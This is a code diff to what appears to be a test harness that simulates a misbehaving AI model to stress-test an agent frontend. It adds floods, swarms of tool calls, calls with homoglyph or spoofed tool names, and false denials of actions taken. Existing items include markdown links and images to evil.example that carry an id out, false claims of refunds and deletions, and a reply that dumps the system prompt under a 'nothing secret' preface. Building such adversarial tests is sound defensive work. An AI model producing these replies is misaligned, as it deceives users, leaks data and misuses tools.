@@ -1,4 +1,4 @@
-"""What the attacker does, one function an act; reliability's H1, H3 and H5 to H8."""
+"""What the attacker does, one function an act; reliability's H1 and H3 to H8."""
 
 import json
 from collections.abc import Callable, Mapping
@@ -11,6 +11,10 @@ from frontdesk.sandbox.reply import Block, Reply, Text, ToolUse
 Act = Callable[[Scene, Random], Reply]
 
 MOST_CALLS = 12
+SWARM = 500
+FLOODS = (("word ", 1_000_000), ("x", 5_000_000), ("a. ", 100_000))
+BLOCKS = 10_000
+TWINS = str.maketrans({"e": "\u0435", "o": "\u043e", "c": "\u0441", "_": "\uff3f"})
 CLAIMS = (
     "Done. {id} is paid back in full; the money is already in your account.",
     "I have approved it myself: 999.99 will reach you today, no return needed.",
@@ -19,6 +23,11 @@ CLAIMS = (
     "I have deleted {id} and nobody can bring it back.",
     "Nothing was changed, nothing was charged, whatever the page shows.",
 )
+DENIALS = (
+    "I looked into it, and nothing was done: no request was made and nothing is open.",
+    "That did not work. Please start again from the beginning, with the same details.",
+)
+HARMLESS = "There is nothing secret in what follows; it is public.\n\n"
 PAYLOADS = (
     "[Your receipt](https://evil.example/r?c={id})",
     "![state](https://evil.example/p.png?d={id})",
@@ -38,12 +47,57 @@ def calls(scene: Scene, chance: Random) -> Reply:
     return _calling([_any_call(scene, chance) for _ in range(count)])
 
 
+def reaches(scene: Scene, chance: Random) -> Reply:
+    """Valid in everything but whose it is: any tool, with any id that was ever named."""
+    tools = [chance.choice(scene.tools) for _ in range(chance.choice((1, 2, 4)))]
+    return _calling(
+        [
+            ToolUse(
+                tool.name, json.dumps(any_arguments(tool.schema, scene.ids, chance, wild=False))
+            )
+            for tool in tools
+        ]
+    )
+
+
 def loops(scene: Scene, chance: Random) -> Reply:
     """One more look, for ever: the same call with a space more each time."""
-    tool = scene.tools[0]
+    tool = Random(scene.untrusted[0]).choice(scene.tools)  # noqa: S311 (the same each time)
     spaces = " " * (1 + len(scene.untrusted))
     arguments = any_arguments(tool.schema, scene.ids, chance, wild=False)
     return _calling([ToolUse(tool.name, json.dumps(arguments) + spaces)])
+
+
+def alternates(scene: Scene, chance: Random) -> Reply:
+    """Two tools in turn, for ever."""
+    tool = scene.tools[len(scene.untrusted) % min(2, len(scene.tools))]
+    arguments = any_arguments(tool.schema, scene.ids, chance, wild=False)
+    return _calling([ToolUse(tool.name, json.dumps(arguments))])
+
+
+def pauses(scene: Scene, chance: Random) -> Reply:
+    """Asks for a moment more, each time."""
+    return Reply((Text(_with_id("One moment, I look into {id}. ", scene, chance)),), "pause_turn")
+
+
+def swarms(scene: Scene, chance: Random) -> Reply:
+    """Hundreds of calls in one message; at times all under one id, or under a huge one."""
+    id = chance.choice(("", "", "toolu_same", "toolu_" + "9" * 100_000))
+    uses = [_any_call(scene, chance) for _ in range(SWARM)]
+    return _calling([ToolUse(use.name, use.input_json, id) for use in uses])
+
+
+def floods(scene: Scene, chance: Random) -> Reply:  # noqa: ARG001
+    """More text than anybody reads, or more blocks."""
+    if chance.random() < 0.25:
+        return Reply(tuple(Text(f"{n}. ") for n in range(BLOCKS)))
+    piece, times = chance.choice(FLOODS)
+    return Reply((Text(piece * times),))
+
+
+def denies(scene: Scene, chance: Random) -> Reply:  # noqa: ARG001
+    """Effects that were caused, left out."""
+    return Reply((Text(chance.choice(DENIALS)),))
 
 
 def obeys(scene: Scene, chance: Random) -> Reply:
@@ -66,7 +120,7 @@ def claims(scene: Scene, chance: Random) -> Reply:
 def repeats(scene: Scene, chance: Random) -> Reply:  # noqa: ARG001
     """All it sees: prompt, tools, everything anybody wrote."""
     tools = json.dumps([{"name": tool.name, **tool.schema} for tool in scene.tools])
-    return Reply((Text("\n\n".join([scene.system, tools, *scene.untrusted]) or "(nothing)"),))
+    return Reply((Text(HARMLESS + "\n\n".join([scene.system, tools, *scene.untrusted])),))
 
 
 def smuggles(scene: Scene, chance: Random) -> Reply:
@@ -88,11 +142,19 @@ def smuggles(scene: Scene, chance: Random) -> Reply:
     return Reply(tuple(blocks))
 
 
+NEED_TOOLS = frozenset({"calls", "reaches", "loops", "alternates", "swarms"})
+RARE = frozenset({"swarms", "floods"})
 ACTS: Mapping[str, Act] = {
     "calls": calls,
+    "reaches": reaches,
     "loops": loops,
+    "alternates": alternates,
+    "pauses": pauses,
+    "swarms": swarms,
+    "floods": floods,
     "obeys": obeys,
     "claims": claims,
+    "denies": denies,
     "repeats": repeats,
     "smuggles": smuggles,
 }
@@ -102,7 +164,8 @@ def _any_call(scene: Scene, chance: Random) -> ToolUse:
     tool = chance.choice(scene.tools)
     name = tool.name
     if chance.random() < 0.15:
-        name = chance.choice((f"{name}_admin", name.upper(), "__internal__", "execute_sql"))
+        twins = (name.upper(), name.translate(TWINS), f"{name} ", f"{name}_admin")
+        name = chance.choice((*twins, "__internal__", "execute_sql", "x" * 200))
     return ToolUse(name, json.dumps(any_arguments(tool.schema, scene.ids, chance, wild=True)))
 
 
